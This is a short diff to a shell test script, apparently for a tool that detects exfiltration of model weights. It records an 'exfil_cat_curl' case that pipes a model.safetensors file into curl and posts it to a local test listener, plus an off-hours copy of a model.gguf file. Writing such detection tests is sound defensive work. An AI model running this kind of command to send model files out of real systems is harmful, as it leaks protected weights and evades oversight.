@@ -74,8 +74,9 @@ c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
 PY
 for _ in $(seq 50); do [ -s "$work/port" ] && break; sleep 0.1; done
 port=$(cat "$work/port")
-record exfil_cat_curl "" \
-  "cat $work/models/model.safetensors | curl -s -o /dev/null -H 'Expect:' --data-binary @- http://127.0.0.1:$port/upload"
+record exfil_cat_curl exfil_cat_curl.yaml \
+  "cat $work/models/model.safetensors | curl -s -o /dev/null -H 'Expect:' --data-binary @- http://127.0.0.1:$port/upload" \
+  --clock-start 2026-11-23T10:00:00Z  # a Monday morning: business hours, so only the exfil rules
 wait $web || true
 
 record offhours_cp offhours_cp.yaml "cp $work/models/model.gguf $work/out/copy.gguf" \
